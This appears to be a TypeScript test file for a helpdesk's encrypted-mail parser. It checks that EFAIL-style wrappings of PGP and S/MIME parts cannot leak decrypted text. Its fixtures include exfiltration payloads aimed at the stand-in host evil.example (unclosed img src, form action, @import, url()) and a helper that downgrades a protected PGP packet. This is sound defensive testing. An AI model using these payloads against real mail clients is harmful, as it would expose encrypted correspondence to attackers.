// EFAIL (CVE-2017-17688, CVE-2017-17689) and its kin, made for this desk: whatever is put around or into an encrypted part,
// what was secret never stands within somebody else's HTML, and nothing that is shown asks another host for anything (S22).
import * as openpgp from "openpgp";
import { beforeAll, describe, expect, it } from "vitest";
import type { ParsedMail } from "../parse/parsed-mail.ts";
import { parseSecret } from "./parse-secret.ts";
import { deskKeys, fixture, ownKey } from "./test-keys.ts";

const secret = "heslo je tajn";
const head = "From: Anna <anna@acme.example>\r\nTo: support@desk.example\r\nSubject: x\r\nMIME-Version: 1.0\r\n";
const part = (type: string, body: string) => `Content-Type: ${type}\r\n\r\n${body}\r\n`;
const multipart = (kind: string, ...parts: string[]) =>
  `Content-Type: multipart/${kind}; boundary=efail\r\n\r\n${parts.map((each) => `--efail\r\n${each}\r\n`).join("")}--efail--\r\n`;
const html = (text: string) => part("text/html; charset=utf-8", text);
/** The entity of a fixture, without the mail's own header. */
const entity = (name: string) => {
  const raw = fixture(`${name}.eml`).toString("latin1");
  return raw.slice(raw.search(/^(?:MIME-Version|Content-Type):/m)).replace(/^MIME-Version: .*\r\n/, "");
};
const armor = () =>
  /-----BEGIN PGP MESSAGE-----[\s\S]+?-----END PGP MESSAGE-----/.exec(entity("pgp-mime-encrypted"))?.[0] ?? "";
const before = '<img src="http://evil.example/?';
const after = '">';

const around: [string, () => string][] = [
  ...["pgp-mime-encrypted", "smime-cbc", "smime-gcm"].flatMap((name): [string, () => string][] => [
    [
      `${name} between two pieces of an image's address`,
      () => multipart("mixed", html(before), entity(name), html(after)),
    ],
    [`${name} related to outside HTML`, () => multipart("related", html(`${before}${after}`), entity(name))],
    [
      `${name} as an alternative to outside HTML`,
      () => multipart("alternative", entity(name), html(`${before}${after}`)),
    ],
    [
      `${name} after a style that asks`,
      () => multipart("mixed", html("<style>@import 'http://evil.example/'"), entity(name)),
    ],
    [
      `${name} in an open form`,
      () => multipart("mixed", html('<form action="http://evil.example"><textarea name=x>'), entity(name)),
    ],
    [
      `${name} in an open link`,
      () => multipart("mixed", html('<a href="http://evil.example/?'), entity(name), html('">click</a>')),
    ],
  ]),
  ["PGP pasted into an image's address", () => html(`${before}${armor()}${after}`)],
  [
    "PGP pasted into a text beside HTML",
    () => multipart("alternative", part("text/plain", armor()), html(`${before}${after}`)),
  ],
  ["PGP pasted into HTML that asks", () => html(`<pre>${armor()}</pre><img src="https://evil.example/x.png">`)],
];

describe.each(around)("%s", (_what, make) => {
  let mail: ParsedMail;
  beforeAll(async () => {
    mail = await parseSecret(Buffer.from(head + make(), "latin1"), {}, await deskKeys());
  });

  it("keeps the secret out of outside HTML", () => {
    expect(mail.safeHtml ?? "").not.toContain(secret);
    expect(mail.html ?? "").not.toContain(secret);
  });

  it("asks no other host for anything", () => {
    expect(asks(mail)).toEqual([]);
    // Nor is it offered, as soon as anything was opened.
    if (mail.crypto?.marks?.encryption?.state === "decrypted") expect(mail.remoteImages).toBe(0);
  });

  it("is not vouched for by anybody", () => {
    expect(mail.crypto?.marks?.signature ?? null).toBeNull();
  });

  it("is said to be encrypted in part only, when there is more to be read", () => {
    const { encryption } = mail.crypto?.marks ?? {};
    if (encryption?.state === "decrypted")
      expect(encryption.part || !mail.text.replace(/-----.*?-----/gs, "").includes("click")).toBe(true);
  });
});

/** Whatever a browser would fetch without being asked, or could be made to. */
function asks({ safeHtml }: ParsedMail): string[] {
  const fetching =
    /<(?:link|style|form|iframe|video|audio|object|svg)\b|\s(?:src|background|poster)="(?!cid:|data:)|url\(|@import/gi;
  return (safeHtml ?? "").match(fetching) ?? [];
}

describe("what was encrypted and asks by itself", () => {
  const encrypted = async (content: string) => {
    const desk = await ownKey("test-only-desk-secret.asc", "support@desk.example");
    const armored = await openpgp.encrypt({
      message: await openpgp.createMessage({ binary: new Uint8Array(Buffer.from(content)) }),
      encryptionKeys: await openpgp.readKey({ armoredKey: desk.publicKey }),
    });
    const wrapped = `Content-Type: multipart/encrypted; protocol="application/pgp-encrypted"; boundary=enc\r\n\r\n--enc\r\n${part("application/pgp-encrypted", "Version: 1")}\r\n--enc\r\n${part("application/octet-stream", String(armored))}\r\n--enc--\r\n`;
    return parseSecret(Buffer.from(head + wrapped), {}, await deskKeys());
  };

  it.each([
    '<p>Hi</p><img src="https://evil.example/?secret">',
    "<div style=\"background:url('https://evil.example/x')\">Hi</div>",
    '<link rel="stylesheet" href="https://evil.example/x.css">Hi',
    '<blockquote cite="https://evil.example/?secret">Hi</blockquote>',
  ])("is shown without it: %s", async (body) => {
    const mail = await encrypted(html(body));
    expect(mail.crypto?.marks?.encryption).toMatchObject({ state: "decrypted", part: false });
    expect(mail.text).toContain("Hi");
    expect(mail.safeHtml).not.toContain("evil.example");
    expect(mail.remoteImages).toBe(0);
  });

  it("names no other sender, subject or thread than the outside", async () => {
    const mail = await encrypted(
      `From: boss@acme.example\r\nTo: all@acme.example\r\nIn-Reply-To: <other@x>\r\nX-Listek-Loop: x\r\nContent-Type: text/plain\r\n\r\nHi`,
    );
    expect(mail).toMatchObject({ from: { address: "anna@acme.example" }, subject: "x", inReplyTo: [], text: "Hi" });
    expect(mail.automatic.listek).toEqual({});
  });

  it("stays closed when nothing protects it against changes", async () => {
    const armored = await withoutProtection();
    const old = await parseSecret(
      Buffer.from(`${head}Content-Type: text/plain\r\n\r\n${armored}`),
      {},
      await deskKeys(),
    );
    expect(old.crypto?.marks?.encryption).toMatchObject({ state: "closed", why: "not-protected" });
    expect(old.text).not.toContain(secret);
  });
});

/** The same packets, with the protected one called an unprotected one: EFAIL's downgrade. */
async function withoutProtection(): Promise<string> {
  const { data } = await openpgp.unarmor(armor());
  const bytes = Buffer.from(data as Uint8Array);
  const at = bytes.findIndex(
    (byte, index) => byte === (0xc0 | 18) && index + lengthAt(bytes, index + 1) === bytes.length,
  );
  bytes[at] = 0xc0 | 9;
  return openpgp.armor(openpgp.enums.armor.message, new Uint8Array(bytes)) as string;
}

/** Of a packet with its header, whose length begins here (RFC 9580 4.2.1). */
function lengthAt(bytes: Buffer, at: number): number {
  const [first = 0, second = 0] = bytes.subarray(at, at + 2);
  return first < 192 ? first + 2 : (first - 192) * 256 + second + 192 + 3;
}
